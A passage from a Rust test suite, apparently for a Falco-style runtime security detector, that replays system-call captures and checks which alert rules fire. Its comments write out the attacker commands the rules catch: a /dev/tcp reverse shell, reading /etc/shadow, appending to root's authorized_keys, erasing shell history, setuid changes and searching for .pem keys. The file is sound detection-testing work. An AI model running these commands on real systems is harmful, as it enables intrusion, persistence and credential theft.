            &tuple4([10, 0, 0, 5], 40000, [10, 0, 0, 1], 8443),
            &[0],
            &u32b(0),
            &u32b(0),
            &i64b(0),
        ],
    );
    // An application run from a script file accepting connections is not concerned.
    sim.exec(Proc::host(
        101,
        1,
        "python3",
        "/usr/bin/python3",
        &["app.py"],
    ));
    sim.ev(
        101,
        code::PPME_SOCKET_ACCEPT4_6_X,
        &[
            &i64b(5),
            &tuple4([10, 0, 0, 6], 40001, [10, 0, 0, 1], 8000),
            &[0],
            &u32b(0),
            &u32b(0),
            &i64b(0),
        ],
    );
    // bash -i >& /dev/tcp/203.0.113.7/443 0>&1: the shell itself connects.
    sim.exec(Proc::host(102, 1, "bash", "/usr/bin/bash", &["-i"]));
    sim.ev(
        102,
        code::PPME_SOCKET_SOCKET_X,
        &[&i64b(3), &u32b(2), &u32b(1), &u32b(0), &u32b(0)],
    );
    let mut addr = vec![2u8, 203, 0, 113, 7];
    addr.extend_from_slice(&443u16.to_le_bytes());
    let connect = sim.ev(
        102,
        code::PPME_SOCKET_CONNECT_X,
        &[
            &i64b(0),
            &tuple4([10, 0, 0, 1], 40002, [203, 0, 113, 7], 443),
            &i64b(3),
            &addr,
        ],
    );
    // A container whose first process (pid 1 of a new pid namespace) has CAP_SYS_ADMIN.
    sim.exec(Proc::host(300, 1, "runc", "/usr/bin/runc", &["init"]));
    sim.clone_child(300, 301, 1, DOCKER_CGROUPS);
    let privileged = sim.exec(Proc {
        cgroups: DOCKER_CGROUPS,
        cap_effective: 1 << 21,
        ..Proc::host(301, 300, "app", "/app/server", &[])
    });
    // A shell exec'd into that container by the runtime (`docker exec`): pid 2 there.
    sim.clone_child(300, 302, 2, DOCKER_CGROUPS);
    let shell = sim.exec(Proc {
        cgroups: DOCKER_CGROUPS,
        cap_effective: 1 << 21,
        ..Proc::host(302, 300, "sh", "/bin/sh", &[])
    });
    // A shell as a container's first process (`sh -c` entrypoint) is not reported as a
    // container shell (only as a privileged start if it has the capability).
    sim.clone_child(300, 303, 1, DOCKER_CGROUPS);
    sim.exec(Proc {
        cgroups: DOCKER_CGROUPS,
        ..Proc::host(303, 300, "sh", "/bin/sh", &["-c", "exec app"])
    });
    assert_alerts(
        "synthetic network and containers",
        &alerts(&[
            (
                "Inbound connection to a shell, network tool or inline code",
                &[accept],
            ),
            (
                "Outbound connection from a shell or inline code",
                &[connect],
            ),
            ("Container started with elevated privileges", &[privileged]),
            ("Shell started in a container", &[shell]),
        ]),
        &sim.eval.alerts,
    );
}

// =========================================================================================
// Tests: the shared captures
// =========================================================================================

fn replay_default(name: &str) -> Evaluator {
    let path = capture_path(name);
    let ev = replay(&path, default_rules());
    if ev.dump {
        note(&format!("{name}: {} events, {:?}", ev.events, ev.alerts));
        note(&format!("{name}: overlaps {:?}", ev.overlaps));
    }
    ev
}

/// The alerts of vm-triggers (captures/README.md, "What vm-triggers did"); event numbers as
/// `falco-inspect -r vm-triggers.scap.gz` numbers them. The step-4 commands ran on the
/// host (the cgroup trick did not take), so they raise the host rules, not the container
/// ones. Not reported, on purpose: `apt-get --version` on the host, `sh -c id` run by a
/// shell, the UDP datagram to 5353.
/// Not reported, for lack of data: the refused connect to 127.0.0.1:2222 (a failed connect
/// leaves the socket without a server address, as in libsinsp, so no port to match) and
/// running /dev/shm/payload (the copy failed: the VM has no /dev/shm; only the attempt to
/// create it is reported).
fn vm_triggers_expected() -> Alerts {
    alerts(&[
        // 1. cat /etc/shadow; 4. again from the would-be container.
        ("Credential file read", &[2515, 9414]),
        // 2. ln -s /etc/passwd /tmp/pwlink
        ("Link to an account file created", &[2838]),
        // 3. python3 -c: connect to its loopback listener on 8080, and accept that
        // connection.
        ("Outbound connection from a shell or inline code", &[8173]),
        (
            "Inbound connection to a shell, network tool or inline code",
            &[8188],
        ),
        // 4. touch /etc/container_write
        ("System configuration file written", &[10592]),
        // 4. echo key >> /root/.ssh/authorized_keys
        ("SSH authorized keys modified", &[11011]),
        // 4. python3: socket(AF_PACKET, SOCK_RAW)
        ("Raw or packet socket opened", &[13930]),
        // 4. cp /bin/ls /tmp/dropped (created 0755), chmod +x /tmp/dropped;
        // 5. cp /bin/true /dev/shm/payload (attempt, ENOENT).
        (
            "Executable file placed in a scratch directory",
            &[14526, 14886, 17837],
        ),
        // 4. /tmp/dropped /
        ("Program run from a scratch directory", &[14981]),
        // 6. chmod u+s /tmp/x
        ("File made setuid or setgid", &[18385]),
        // 7. echo hi > /root/.bash_history (O_TRUNC); rm -f /root/.bash_history
        ("Shell history erased", &[18422, 18735]),
    ])
}

/// The alerts of vm-containers (captures/README.md, "What vm-containers did"). Container
/// ids come from the cgroups (3ad7b26ded6d: the docker-style one; 9f3b1c2d4e5f: the
/// kubernetes-style one). The append to authorized_keys was done by the bash that moved
/// itself into the cgroup, whose container id stays "host" (it is known from its execve).
/// Not reported: `cat /proc/self/cgroup`, `cat` of the absent service-account token (the
/// open failed), the refused wget connect to port 9 (wget itself is reported), the host's
/// `cat /etc/hostname`.
fn vm_containers_expected() -> Alerts {
    alerts(&[
        // sh -c 'id; whoami' in 3ad7b26ded6d
        ("Shell started in a container", &[3187]),
        // cat /etc/shadow (sudo's own reads of shadow and sudoers are not reported)
        ("Credential file read", &[4140]),
        // touch /etc/container_write
        ("System configuration file written", &[4409]),
        // echo ssh-rsa AAAA >> /root/.ssh/authorized_keys
        ("SSH authorized keys modified", &[4922]),
        // sudo -n true
        ("User switch in a container", &[5086]),
        // apt-get --version
        ("Package manager run in a container", &[10825]),
        // python3 -c: connect 127.0.0.1:4444 (EINPROGRESS); in 9f3b1c2d4e5f, the
        // reverse-shell script's connect to its own listener on 7777.
        ("Connection to an attack-tool port", &[20339, 31470]),
        // the same script's python3 -c accepting that connection on its listener
        (
            "Inbound connection to a shell, network tool or inline code",
            &[31481],
        ),
        // nsenter --target 1 --mount true
        ("Namespace entered", &[21036]),
        // unshare --user true (EPERM)
        ("Namespace created", &[21394]),
        // ln -s /etc/shadow /tmp/ctr_shadow_link
        ("Link to an account file created", &[21745]),
        // cp /bin/ls /tmp/ctr_dropped, chmod +x /tmp/ctr_dropped
        (
            "Executable file placed in a scratch directory",
            &[22355, 22691],
        ),
        // /tmp/ctr_dropped /
        ("Program run from a scratch directory", &[22781]),
        // wget -q -T 1 http://127.0.0.1:9/x
        ("Network tool run in a container", &[23241]),
        // mount -t tmpfs none /mnt
        ("File system mounted in a container", &[25175]),
        // /bin/sh -c 'echo pwned' with the socket as stdin/stdout/stderr
        ("Shell connected to a network socket", &[31684]),
        // find / -maxdepth 3 -name '*.pem'
        ("Search for credential files", &[32535]),
        // chmod 4755 /tmp/ctr_dropped
        ("File made setuid or setgid", &[56896]),
    ])
}

#[test]
fn vm_triggers_alerts() {
    let _dir = captures_or_skip!();
    let ev = replay_default("vm-triggers.scap");
    assert_alerts("vm-triggers", &vm_triggers_expected(), &ev.alerts);
    // One alert per event: `rule_matching: first` (Falco's default) and `all` agree.
    assert_eq!(ev.overlaps, Vec::<(u64, Vec<String>)>::new());
}

#[test]
fn vm_containers_alerts() {
    let _dir = captures_or_skip!();
    let ev = replay_default("vm-containers.scap");
    assert_alerts("vm-containers", &vm_containers_expected(), &ev.alerts);
    assert_eq!(ev.overlaps, Vec::<(u64, Vec<String>)>::new());
}

/// Everyday activity (gcc builds in /tmp/w, tar/gzip, python reading 12,000 files, curl to
/// a loopback HTTP server, git, 1,500 `ls /etc`) raises nothing.
#[test]
fn vm_workload_2_is_quiet() {
    let _dir = captures_or_skip!();
    let ev = replay_default("vm-workload-2.scap");
    assert!(ev.events > 500_000, "only {} events replayed", ev.events);
    assert_alerts("vm-workload-2", &Alerts::new(), &ev.alerts);
}

/// The small public captures (curl to google.com over IPv6, IPv6 clients and servers)
/// raise nothing.
#[test]
fn small_captures_are_quiet() {
    let _dir = captures_or_skip!();
    for name in [
        "curl_google.scap",
        "test_ipv6_client.scap",
        "single_ipv6_conn.scap",
    ] {
        let ev = replay_default(name);
        assert!(ev.events > 0, "{name}: no events replayed");
        assert_alerts(name, &Alerts::new(), &ev.alerts);
    }
}

// =========================================================================================
// Tests: tuning through a local rules file (falco_rules.local.yaml)
// =========================================================================================

fn rules_with_local(local: &str) -> Vec<CompiledRule> {
    let mut doc = default_doc();
    doc.load(local);
    compile(&doc).unwrap_or_else(|e| panic!("{e}"))
}

/// The generic allow-list, given a scope and programs from a local file, reports every
/// other program started in that container.
#[test]
fn container_allowlist_with_local_scope() {
    let _dir = captures_or_skip!();
    let rules = rules_with_local(
        r#"
- macro: process_allowlist_scope
  condition: (container.id = 3ad7b26ded6d)
  override:
    condition: replace
- list: process_allowlist_programs
  items: [bash, cat]
  override:
    items: append
"#,
    );
    let ev = replay(&capture_path("vm-containers.scap"), rules);
    let got = ev
        .alerts
        .get("Program outside a container allow-list")
        .cloned()
        .unwrap_or_default();
    // sh, id, whoami, touch, mkdir, sudo, true (run by sudo), apt-get, python3, nsenter,
    // true (run by nsenter), unshare, ln, cp, chmod, ctr_dropped, wget, mount, umount; not
    // the two cats, nor nsenter's failed execve attempts (21040, 21043).
    assert_eq!(
        got,
        vec![
            3187, 3404, 3778, 4301, 4602, 5086, 10284, 10825, 13960, 20770, 21047, 21285, 21586,
            21939, 22568, 22781, 23241, 24777, 25345
        ]
    );
}

/// The nginx allow-list: our build has no container names or images, so the scope is
/// pointed at the kubernetes-style container of vm-containers by redefining the macro, as
/// a user would for a container the runtime does not describe.
#[test]
fn nginx_allowlist_with_local_scope() {
    let _dir = captures_or_skip!();
    // As shipped, the scope needs an image or a name: silent on the captures.
    let ev = replay(&capture_path("vm-containers.scap"), default_rules());
    assert!(!ev
        .alerts
        .contains_key("Unexpected program in an nginx container"));
    let rules = rules_with_local(
        r#"
- macro: nginx_container
  condition: (container.id = 9f3b1c2d4e5f)
  override:
    condition: replace
"#,
    );
    let ev = replay(&capture_path("vm-containers.scap"), rules);
    // cat, python3, sh (run by python3), cat, find, chmod.
    assert_eq!(
        ev.alerts.get("Unexpected program in an nginx container"),
        Some(&vec![26758, 27103, 31684, 32198, 32535, 56786])
    );
}

/// An exception value appended from a local file silences exactly what it names.
#[test]
fn exception_appended_from_local_file() {
    let _dir = captures_or_skip!();
    let rules = rules_with_local(
        r#"
- rule: Credential file read
  exceptions:
    - name: known_readers
      values:
        - [cat, /etc/shadow]
  override:
    exceptions: append
- rule: Shell history erased
  enabled: false
  override:
    enabled: replace
"#,
    );
    let ev = replay(&capture_path("vm-triggers.scap"), rules);
    let mut expected = vm_triggers_expected();
    expected.remove("Credential file read");
    expected.remove("Shell history erased");
    assert_alerts("vm-triggers with local tuning", &expected, &ev.alerts);
}

// =========================================================================================
// Tests: the `falco` binary (needs the rule engine wired into `falco`)
// =========================================================================================

const CONFIG_FILE: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/config/falco.yaml");

/// Runs `falco` replaying `capture` with the default rules; alerts by rule, with their
/// event numbers (added to the JSON output fields with append_output).
fn falco_replay(capture: &Path) -> Alerts {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_falco"))
        .args(["-c", CONFIG_FILE, "-r", RULES_FILE])
        .args(["-o", "engine.kind=replay"])
        .arg("-o")
        .arg(format!("engine.replay.capture_file={}", capture.display()))
        .args(["-o", "json_output=true"])
        .args(["-o", "stdout_output.enabled=true"])
        .args(["-o", "syslog_output.enabled=false"])
        .args(["-o", "append_output=[{extra_fields: [evt.num]}]"])
        .output()
        .expect("falco runs");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "falco failed: {}\n{}",
        String::from_utf8_lossy(&out.stderr),
        stdout
    );
    let mut alerts = Alerts::new();
    for line in stdout.lines().filter(|l| l.starts_with('{')) {
        let v: serde_json::Value = serde_json::from_str(line).expect("JSON alert");
        let rule = v["rule"].as_str().expect("rule").to_string();
        let num = &v["output_fields"]["evt.num"];
        let num = num
            .as_u64()
            .or_else(|| num.as_str().and_then(|s| s.parse().ok()))
            .unwrap_or_else(|| panic!("no evt.num in {line}"));
        alerts.entry(rule).or_default().push(num);
    }
    alerts
}

#[test]
fn falco_replay_vm_triggers() {
    let _dir = captures_or_skip!();
    let got = falco_replay(&capture_path("vm-triggers.scap"));
    assert_alerts("falco replay of vm-triggers", &vm_triggers_expected(), &got);
}

#[test]
fn falco_replay_vm_containers() {
    let _dir = captures_or_skip!();
    let got = falco_replay(&capture_path("vm-containers.scap"));
    assert_alerts(
        "falco replay of vm-containers",
        &vm_containers_expected(),
        &got,
    );
}

#[test]
fn falco_replay_vm_workload_2_is_quiet() {
    let _dir = captures_or_skip!();
    let got = falco_replay(&capture_path("vm-workload-2.scap"));
    assert_alerts("falco replay of vm-workload-2", &Alerts::new(), &got);
}

/// `falco -V` accepts the file without errors or warnings, and `falco -L` lists every rule.
#[test]
fn falco_validates_and_lists_the_default_rules() {
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_falco"))
        .args(["-c", CONFIG_FILE, "-V", RULES_FILE])
        .output()
        .expect("falco runs");
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(out.status.success(), "{text}");
    assert!(text.contains(&format!("{RULES_FILE}: Ok")), "{text}");
    assert!(!text.contains("with warnings"), "{text}");
    let out = std::process::Command::new(env!("CARGO_BIN_EXE_falco"))
        .args(["-c", CONFIG_FILE, "-r", RULES_FILE, "-L"])
        .output()
        .expect("falco runs");
    let listing = String::from_utf8_lossy(&out.stdout);
    for r in default_doc().rules {
        assert!(
            listing.contains(&r.name),
            "falco -L lacks {}:\n{listing}",
            r.name
        );
    }
}
